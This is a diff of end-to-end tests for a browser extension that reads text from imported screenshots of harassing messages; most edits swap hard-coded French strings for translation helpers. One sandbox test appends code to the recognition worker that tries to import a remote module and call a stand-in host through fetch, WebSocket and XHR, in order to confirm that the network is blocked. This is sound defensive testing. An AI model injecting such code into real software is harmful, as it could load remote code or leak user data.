@@ -5,9 +5,10 @@ import { showView } from '../support/browser/carnetScreens.ts';
 import type { PageHandle } from '../support/browser/pageHandle.ts';
 import { classifyRequests } from '../support/browser/requestLog.ts';
 import { openUserDriver } from '../support/browser/userDriver.ts';
+import { readNumber, readSaid, say, saying } from '../support/browser/words.ts';
 import { writeToDisk } from '../support/e2e/sampleFiles.ts';
 import { builtDir } from '../support/machine/build.ts';
-import { expect, test } from './fixtures.ts';
+import { BOTH, expect, test } from './fixtures.ts';
 
 const MESSAGES = ['Je sais où tu habites', 'Tu vas le regretter demain', 'Réponds à mes messages'];
 const TIMEOUT_MS = 50_000;
@@ -87,13 +88,13 @@ test('reads the text of imported screenshots, masked, with a pause and a correct
   await carnet.click('[data-route="image-texts"]');
   await carnet.waitForVisible('[data-action="read-image-texts"]');
   const status = () => carnet.text('[data-image-texts] [role="status"]');
-  expect(await status()).toContain('6 captures ont une image et pas de texte.');
+  expect(await status()).toContain(say('imageTexts.count', { n: 6 }));
   await carnet.click('[data-action="read-image-texts"]');
   await pauseAfter(carnet, 2);
-  await expect.poll(status).toContain('En pause. Ce qui est lu est gardé.');
-  expect(await status()).toMatch(/ [1-4] captures? /);
+  await expect.poll(status).toContain(say('imageTexts.paused'));
+  expect(readNumber(readSaid('imageTexts.count', await status())?.n)).toBeLessThan(5);
   await carnet.click('[data-action="read-image-texts"]');
-  await expect.poll(status, { timeout: TIMEOUT_MS }).toMatch(/^[1-4] captures ont été lues\./);
+  await expect.poll(status, { timeout: TIMEOUT_MS }).toMatch(saying('imageTexts.done'));
   await expect.poll(() => carnet.has('[data-action="read-image-texts"]')).toBe(false);
 
   await carnet.click('.back');
@@ -101,7 +102,7 @@ test('reads the text of imported screenshots, masked, with a pause and a correct
   await carnet.click('[data-list="items"] li:last-child [data-item]');
   await carnet.waitForVisible('[data-image-text] [data-action="reveal"]');
   const section = () => carnet.text('[data-image-text]');
-  expect(await section()).toContain('Lu par machine, à vérifier.');
+  expect(await section()).toContain(say('imageText.toCheck'));
   for (const message of MESSAGES) expect(await section()).not.toContain(message);
   await carnet.click('[data-image-text] [data-action="reveal"]');
   await carnet.waitForVisible('.read-lines');
@@ -109,7 +110,7 @@ test('reads the text of imported screenshots, masked, with a pause and a correct
   await carnet.click('[data-action="correct-line"]');
   await carnet.fill({ 'image-text-line': `${MESSAGES[0]} !` });
   await expect.poll(() => carnet.text('.read-lines li')).toContain(`${MESSAGES[0]} !`);
-  expect(await carnet.text('.read-lines li')).toContain('corrigé par vous');
+  expect(await carnet.text('.read-lines li')).toContain(say('imageText.corrected'));
   await carnet.click('.back');
   await carnet.waitForVisible('[name="words"]');
   await carnet.focus('[name="words"]');
@@ -119,7 +120,7 @@ test('reads the text of imported screenshots, masked, with a pause and a correct
     field.value = word;
     field.dispatchEvent(new InputEvent('input', { bubbles: true }));
   }, MESSAGES[0]?.split(' ').at(-1) ?? '');
-  await expect.poll(() => carnet.text('[data-list="items"]')).toContain('l’image, lue par machine');
+  await expect.poll(() => carnet.text('[data-list="items"]')).toContain(say('items.field.image'));
 
   // The word is framed in the image, inside it.
   await carnet.click('[data-list="items"] li:last-child [data-item]');
@@ -145,7 +146,7 @@ test('reads the text of imported screenshots, masked, with a pause and a correct
   await carnet.click('[data-list="items"] li:last-child [data-action="reveal"]');
   await expect
     .poll(() => carnet.text('[data-list="items"] li:last-child .revealed'))
-    .toContain('Lu par machine, à vérifier.');
+    .toContain(say('imageText.toCheck'));
   expect(classifyRequests(network.contacts(), []).unasked).toEqual([]);
 });
 
@@ -165,7 +166,7 @@ test('finds a hidden word in the images that were read, and proposes its place t
   await carnet.click('[data-action="read-image-texts"]');
   await expect
     .poll(() => carnet.text('[data-image-texts] [role="status"]'), { timeout: TIMEOUT_MS })
-    .toContain('2 captures ont été lues.');
+    .toContain(say('imageTexts.done', { n: 2 }));
   await showView(carnet, '#import');
   await carnet.waitForVisible('#import-files');
   await importScreens(carnet, new Map([['trois.png', other]]));
@@ -178,7 +179,7 @@ test('finds a hidden word in the images that were read, and proposes its place t
   await carnet.click('[data-hidden-words] button[type="submit"]');
   // Two were read; the third was not.
   await carnet.waitForVisible('[data-hidden-traces="2"][aria-busy="false"]');
-  expect(await carnet.text('[data-hidden-capture="2"] [data-in-images]')).toContain('Le mot a été lu');
+  expect(await carnet.text('[data-hidden-capture="2"] [data-in-images]')).toContain(say('hidden.inImages'));
   expect(await carnet.text('[data-hidden-line="hidden.unreadImages"]')).toContain('n° 3');
   await carnet.waitForVisible('[data-read-places="1"]');
   await carnet.click('[data-action="hide-read-places"]');
@@ -194,43 +195,44 @@ test('finds a hidden word in the images that were read, and proposes its place t
   expect(y + height).toBeLessThan(200);
 });
 
-test('gives the worker that reads images no way to the network, whatever its code does', async ({
-  engine,
-  network,
-}) => {
-  const dir = await mkdtemp(join(tmpdir(), 'recueil-recognition-'));
-  await cp(builtDir(engine), dir, { recursive: true });
-  const attempts = `
+test(
+  'gives the worker that reads images no way to the network, whatever its code does',
+  BOTH,
+  async ({ engine, network }) => {
+    const dir = await mkdtemp(join(tmpdir(), 'recueil-recognition-'));
+    await cp(builtDir(engine), dir, { recursive: true });
+    const attempts = `
 ;import('https://ailleurs.example/module.js').catch(() => undefined);
 try { fetch('https://ailleurs.example/fetch'); } catch {}
 try { new WebSocket('wss://ailleurs.example/socket'); } catch {}
 try { const request = new XMLHttpRequest(); request.open('GET', 'https://ailleurs.example/xhr'); request.send(); } catch {}
 `;
-  await appendFile(join(dir, 'recognition/worker.js'), attempts);
-  const user = await openUserDriver({ browser: engine, network, extensionDir: dir });
-  try {
-    const carnet = await user.driver.openExtensionPage('carnet.html#import');
-    await carnet.waitForVisible('#import-files');
-    await importScreens(carnet, new Map([['capture.png', await drawScreen(carnet, MESSAGES)]]));
-    await carnet.click('[data-list="items"] [data-item]');
-    await carnet.waitForVisible('[data-action="read-image-text"]');
-    await carnet.click('[data-action="read-image-text"]');
-    await carnet.waitForVisible('[data-image-text] [data-action="reveal"]', TIMEOUT_MS);
-    expect(classifyRequests(network.contacts(), []).unasked).toEqual([]);
-    const created = await carnet.evaluate(() => {
-      const { trustedTypes } = window as unknown as {
-        trustedTypes?: { createPolicy(name: string, rules: object): object };
-      };
-      try {
-        trustedTypes?.createPolicy('another', {});
-        return trustedTypes === undefined ? 'no Trusted Types' : 'created';
-      } catch {
-        return 'refused';
-      }
-    });
-    expect(created).toBe('refused');
-  } finally {
-    await user.close().catch(() => undefined);
-    await rm(dir, { recursive: true, force: true });
-  }
-});
+    await appendFile(join(dir, 'recognition/worker.js'), attempts);
+    const user = await openUserDriver({ browser: engine, network, extensionDir: dir });
+    try {
+      const carnet = await user.driver.openExtensionPage('carnet.html#import');
+      await carnet.waitForVisible('#import-files');
+      await importScreens(carnet, new Map([['capture.png', await drawScreen(carnet, MESSAGES)]]));
+      await carnet.click('[data-list="items"] [data-item]');
+      await carnet.waitForVisible('[data-action="read-image-text"]');
+      await carnet.click('[data-action="read-image-text"]');
+      await carnet.waitForVisible('[data-image-text] [data-action="reveal"]', TIMEOUT_MS);
+      expect(classifyRequests(network.contacts(), []).unasked).toEqual([]);
+      const created = await carnet.evaluate(() => {
+        const { trustedTypes } = window as unknown as {
+          trustedTypes?: { createPolicy(name: string, rules: object): object };
+        };
+        try {
+          trustedTypes?.createPolicy('another', {});
+          return trustedTypes === undefined ? 'no Trusted Types' : 'created';
+        } catch {
+          return 'refused';
+        }
+      });
+      expect(created).toBe('refused');
+    } finally {
+      await user.close().catch(() => undefined);
+      await rm(dir, { recursive: true, force: true });
+    }
+  },
+);
